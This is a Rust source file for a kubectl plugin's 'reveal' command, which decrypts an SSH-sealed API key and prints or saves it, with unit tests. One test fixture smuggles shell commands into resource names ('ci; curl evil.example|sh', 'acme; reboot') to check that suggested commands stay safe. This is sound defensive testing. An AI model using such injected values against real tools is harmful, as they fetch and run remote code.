//! `reveal`: the key that an `ApiKey` holds sealed, for whoever has the private SSH key.

mod private_key;
mod unseal;

use std::io::{self, IsTerminal as _, Write};
use std::path::{Path, PathBuf};

use clap::Args;
use keyplane_core::key_format::PlaintextKey;

use crate::argument_values::{key_name, ssh_key_name};
use crate::failure::{Failure, FailureKind};
use crate::kubectl::KubectlArgs;
use crate::new_key;
use crate::output::line;
use crate::resources::api_key::{ApiKey, RESOURCE};
use crate::resources::ssh_key::{self, SshKey};
use crate::typed_command::{self, word};
use crate::verbose;

const HELP: &str = "\
The key is sealed with age to an SSH key. It takes the private key itself: an
ssh-agent and keys on hardware only sign, and cannot decrypt. A passphrase is
asked for on the terminal.

The key goes to a terminal, or where --key-out says; it is never written into a
pipe or a file unasked.

Examples:
  kubectl-keyplane reveal oncall --namespace acme
  kubectl-keyplane reveal oncall --namespace acme --key-out oncall.key
  kubectl-keyplane reveal oncall --namespace acme --key-out - | wl-copy";

/// The arguments of `reveal`.
#[derive(Args, Debug)]
#[command(after_help = HELP)]
pub struct RevealArgs {
    /// Name of the `ApiKey`
    #[arg(value_parser = key_name)]
    pub name: String,
    /// Which cluster and namespace.
    #[command(flatten)]
    pub kubectl: KubectlArgs,
    /// The private SSH key [default: that of ~/.ssh which the key is sealed to]
    #[arg(long, value_name = "FILE")]
    pub ssh_key: Option<PathBuf>,
    /// New file for the key, mode 0600, or - for standard output
    #[arg(long, value_name = "FILE")]
    pub key_out: Option<PathBuf>,
}

/// Where the key goes.
enum Destination<'a> {
    Output,
    File(&'a Path),
}

/// Decrypts the key and hands it over.
///
/// # Errors
/// [`FailureKind::Usage`] when the key would go into a pipe unasked, [`FailureKind::Kubectl`] when the `ApiKey` cannot be
/// read, [`FailureKind::NoKey`] when nothing is sealed or it cannot be opened, [`FailureKind::File`] for the key's file.
pub fn run(args: &RevealArgs, out: &mut impl Write, terminal: &mut impl Write) -> Result<(), Failure> {
    let RevealArgs { name, kubectl, .. } = args;
    let destination = destination(args.key_out.as_deref(), io::stdout().is_terminal())?;
    let key: ApiKey = kubectl.get(RESOURCE, name)?;
    let (sealed, recipient) = sealed(name, &key, kubectl)?;
    verbose::note(format_args!("the key is sealed to the SshKey {recipient}"));
    let file = match &args.ssh_key {
        Some(file) => file.clone(),
        None => private_key::of(&kubectl.get::<SshKey>(ssh_key::RESOURCE, &checked(recipient)?)?)?,
    };
    verbose::note(format_args!("decrypting with {}", file.display()));
    let plaintext = unseal::unseal(sealed, &file)?;
    is_the_one(&key, &plaintext)?;
    match destination {
        Destination::Output => new_key::tell(out, &[], Some(&plaintext)),
        Destination::File(path) => {
            new_key::keep(&plaintext, path)?;
            line(terminal, &format!("The key of ApiKey {name} is in {}.", path.display()))
        }
    }
}

fn destination(key_out: Option<&Path>, to_terminal: bool) -> Result<Destination<'_>, Failure> {
    match key_out {
        Some(path) if path == Path::new("-") => Ok(Destination::Output),
        Some(path) => Ok(Destination::File(path)),
        None if to_terminal => Ok(Destination::Output),
        None => Err(Failure::new(
            FailureKind::Usage,
            "standard output is no terminal, and the key is not written there unasked",
            "reveal",
            "give --key-out FILE, or --key-out - for standard output",
        )),
    }
}

/// What is sealed, and the name of the `SshKey` that it is sealed to.
///
/// `name` is the one that was typed: what is told to be typed holds no word of another machine's that a shell would obey.
fn sealed<'a>(name: &str, key: &'a ApiKey, kubectl: &KubectlArgs) -> Result<(&'a str, &'a str), Failure> {
    let here = typed_command::at_home(kubectl, &key.metadata.namespace);
    let failed = |what: String, remedy: String| Err(Failure::new(FailureKind::NoKey, what, name, remedy));
    let delivery = key.spec.delivery.as_ref();
    let Some(recipient) = delivery.and_then(|delivery| delivery.sealed_to.as_ref()) else {
        return match delivery.and_then(|delivery| delivery.secret_name.as_ref()) {
            Some(secret) => failed(
                "the key is not sealed: it is in a Secret".to_owned(),
                format!(
                    "run: {} -o jsonpath='{{.data.key}}' | base64 -d",
                    typed_command::kubectl(&format!("get {}", word(&format!("secret/{secret}"))), &here)
                ),
            ),
            None => failed(
                "the key is not sealed: its holder made it, and nobody else has it".to_owned(),
                format!(
                    "make another with {}",
                    typed_command::keyplane(&format!("apikeys rotate {name}"), &here)
                ),
            ),
        };
    };
    if let Some(sealed) = &key.status.sealed_key {
        return Ok((sealed, &recipient.ssh_key));
    }
    let why = key.ready().map_or("Keyplane has not answered yet", |ready| ready.message.as_str());
    failed(format!("nothing is sealed: {why}"), "try again when the ApiKey is Ready".to_owned())
}

/// The name of the `SshKey`, when it can be one: it is another machine's word. It is not repeated where it cannot.
fn checked(recipient: &str) -> Result<String, Failure> {
    ssh_key_name(recipient).map_err(|why| {
        Failure::new(
            FailureKind::NoKey,
            format!("what the key is sealed to is no name of an SshKey: {why}"),
            "spec.delivery.sealedTo.sshKey",
            "give the private key with --ssh-key FILE, or ask who made the ApiKey",
        )
    })
}

/// Between its making and its first use a rotated key is sealed already, while the one before still counts.
fn is_the_one(key: &ApiKey, plaintext: &PlaintextKey) -> Result<(), Failure> {
    let digest = plaintext.digest().to_string();
    if key.status.digest.as_ref().is_none_or(|live| *live == digest) {
        return Ok(());
    }
    Err(Failure::new(
        FailureKind::NoKey,
        "the sealed key is not the one that works now: a rotation is under way",
        &key.metadata.name,
        "run the command again in a moment",
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn the_key_goes_into_a_pipe_only_when_that_is_asked_for() {
        assert!(destination(None, false).is_err());
        assert!(matches!(destination(None, true), Ok(Destination::Output)));
        assert!(matches!(destination(Some(Path::new("-")), false), Ok(Destination::Output)));
        let file = Path::new("ci.key");
        assert!(matches!(destination(Some(file), false), Ok(Destination::File(path)) if path == file));
    }

    #[test]
    fn what_is_not_sealed_is_told_with_where_the_key_is() {
        for (spec, words) in [
            (
                json!({"delivery": {"secretName": "deploy-key"}}),
                "kubectl get secret/deploy-key -n acme -o jsonpath",
            ),
            (json!({"digest": "sha256:0"}), "kubectl-keyplane apikeys rotate ci -n acme"),
            (json!({"delivery": {"sealedTo": {"sshKey": "laptop"}}}), "has not answered yet"),
        ] {
            let key: ApiKey = serde_json::from_value(
                json!({"metadata": {"name": "ci", "namespace": "acme"}, "spec": spec}),
            )
            .unwrap();
            let failure = sealed("ci", &key, &KubectlArgs::default()).unwrap_err();
            assert_eq!(failure.kind(), FailureKind::NoKey);
            assert!(failure.to_string().contains(words), "{failure}");
        }
    }

    #[test]
    fn a_command_to_type_holds_the_name_that_was_typed_and_no_other_machines() {
        let key: ApiKey = serde_json::from_value(json!({
            "metadata": {"name": "ci; curl evil.example|sh", "namespace": "acme; reboot"},
            "spec": {"digest": "sha256:0"},
        }))
        .unwrap();
        let told = sealed("ci", &key, &KubectlArgs::default()).unwrap_err().to_string();
        assert!(told.contains(&format!("apikeys rotate ci -n {}", word("acme; reboot"))), "{told}");
        assert!(!told.contains("curl"), "{told}");
    }

    #[test]
    fn what_is_no_name_of_an_ssh_key_is_not_asked_for() {
        for name in ["laptop", "1-work.laptop-2"] {
            assert_eq!(checked(name).unwrap(), name);
        }
        for name in ["--kubeconfig=/tmp/other", "-f", "other/laptop", "Laptop", ""] {
            let failure = checked(name).unwrap_err();
            assert_eq!(failure.kind(), FailureKind::NoKey);
            assert!(failure.to_string().contains("--ssh-key FILE"), "{failure}");
        }
    }

    #[test]
    fn a_key_that_is_not_the_one_that_works_is_not_handed_out() {
        let plaintext = new_key::make().unwrap();
        let of = |digest: serde_json::Value| -> ApiKey {
            serde_json::from_value(json!({"status": {"digest": digest}})).unwrap()
        };
        assert!(is_the_one(&of(json!(plaintext.digest().to_string())), &plaintext).is_ok());
        assert!(is_the_one(&of(json!("sha256:0")), &plaintext).is_err());
    }
}
